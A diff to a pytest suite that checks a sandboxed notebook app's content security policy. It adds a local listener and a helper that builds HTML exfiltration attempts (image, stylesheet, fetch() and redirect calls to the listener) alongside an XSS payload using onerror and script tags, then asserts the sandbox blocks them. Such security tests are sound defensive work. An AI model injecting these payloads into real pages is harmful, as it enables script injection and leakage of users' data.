@@ -33,6 +33,52 @@ HOSTILE = "<img src=x onerror=\"parent.wasHere=1\"><script>top.wasHere=1;documen
 OWN_TEXT = "inside"
 
 
+class Listener(http.server.ThreadingHTTPServer):
+    """Server that counts who comes."""
+
+    def __init__(self) -> None:
+        super().__init__(("127.0.0.1", 0), _Answer)
+        self.asked: list[str] = []
+        self.body = b""
+        self.url = f"http://127.0.0.1:{self.server_port}"
+
+
+class _Answer(http.server.BaseHTTPRequestHandler):
+    def do_GET(self) -> None:
+        server = self.server
+        assert isinstance(server, Listener)
+        server.asked.append(self.path)
+        self.send_response(200)
+        self.send_header("Content-Type", "text/html")
+        self.end_headers()
+        self.wfile.write(server.body if self.path == "/" else b"")
+
+    def log_message(self, format: str, *args: object) -> None:
+        pass
+
+
+@pytest.fixture
+def listener() -> Iterator[Listener]:
+    with Listener() as server:
+        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
+        thread.start()
+        yield server
+        server.shutdown()
+        thread.join()
+
+
+def leak(listener: Listener) -> str:
+    """A page's attempts to tell somebody else what it knows."""
+    url = listener.url
+    return (
+        f"<img src='{url}/image'><link rel=stylesheet href='{url}/style'>"
+        f"<script>if (document.title === 'taken') fetch('{url}/taken');"
+        f"fetch('{url}/fetch').catch(() => 0);"
+        f"addEventListener('load', () => setTimeout(() => {{ location.href = '{url}/leak' }}, 300))"
+        "</script>"
+    )
+
+
 @pytest.fixture(scope="module")
 def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
     with started(tmp_path_factory.mktemp("profile")) as running:
@@ -148,8 +194,10 @@ def test_a_terminal(page: Browser) -> None:
     create(page)
     page.click(".tabs a", "Terminal")
     page.wait("document.querySelector('.terminal').innerText.includes('$')")
-    page.type("cat > typed; printf '\\033[31m%s\\033[0m\\n' red$((6*7)); stty size")
+    # What is typed before `cat` runs would be read in the mode of the shell's own line editor.
+    page.type("echo re''ady; cat > typed; printf '\\033[31m%s\\033[0m\\n' red$((6*7)); stty size")
     page.press(*ENTER)
+    page.wait("document.querySelector('.terminal').innerText.includes('\\nready')")
     page.type("by hand")
     page.press(*ENTER)
     page.press("d", 68, control=True)
@@ -168,8 +216,10 @@ def test_a_terminal(page: Browser) -> None:
     assert page.complaints == []
 
 
-def test_what_comes_from_inside_stays_inside(page: Browser, server: Served) -> None:
-    """Scripts in texts, names, pictures, pages and titles; and the control, which does run."""
+def test_what_comes_from_inside_stays_inside(
+    page: Browser, server: Served, listener: Listener
+) -> None:
+    """Scripts in texts, names, pictures, pages and titles; the control follows."""
     sandbox_id = create(page)
     shown = run(
         page,
@@ -185,7 +235,7 @@ def test_what_comes_from_inside_stays_inside(page: Browser, server: Served) -> N
         'document.getElementById("p").textContent="' + OWN_TEXT + '";'
         "try{top.wasHere=1}catch(e){};"
         f'fetch("{server.url}/v1/sandboxes").then(()=>top.postMessage("reached","*"));'
-        "</script>'))\n"
+        f"</script>' + {leak(listener)!r}))\n"
         "pd.DataFrame({hostile: [hostile]})",
         count=1,
     )
@@ -197,6 +247,9 @@ def test_what_comes_from_inside_stays_inside(page: Browser, server: Served) -> N
     # The page's own script has run, in an origin that is not ours.
     inner = wait_for_frame(page)
     assert OWN_TEXT in inner
+    # By then it has tried to leave.
+    time.sleep(1)
+    assert listener.asked == []
     page.click(".tabs a", "Files")
     page.click(".entry", "page.html")
     page.wait("document.querySelector('.preview').innerText.includes('onerror')")
@@ -230,29 +283,15 @@ def wait_for_frame(page: Browser) -> str:
     return text
 
 
-def test_hostile_text_would_run_in_a_page_without_the_policy(browser: Browser) -> None:
+def test_hostile_text_would_run_in_a_page_without_the_policy(
+    browser: Browser, listener: Listener
+) -> None:
     """The control of the attacks: the same text runs where it is written into a page."""
-    body = f"<title>mine</title>{HOSTILE}</script>".encode()
-
-    class Answer(http.server.BaseHTTPRequestHandler):
-        def do_GET(self) -> None:
-            self.send_response(200)
-            self.send_header("Content-Type", "text/html")
-            self.end_headers()
-            self.wfile.write(body)
-
-        def log_message(self, format: str, *args: object) -> None:
-            pass
-
-    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Answer) as plain:
-        thread = threading.Thread(target=plain.serve_forever, kwargs={"poll_interval": 0.05})
-        thread.start()
-        try:
-            browser.open(f"http://127.0.0.1:{plain.server_port}/")
-            browser.wait("document.title === 'taken' && wasHere === 1")
-        finally:
-            plain.shutdown()
-            thread.join()
+    listener.body = f"<title>mine</title>{HOSTILE}</script>{leak(listener)}".encode()
+    browser.open(f"{listener.url}/")
+    browser.wait("document.URL.endsWith('/leak')")
+    assert "/taken" in listener.asked
+    assert "/leak" in listener.asked
 
 
 def test_a_key_is_asked_for_and_admins_make_others(browser: Browser, tmp_path: Path) -> None:
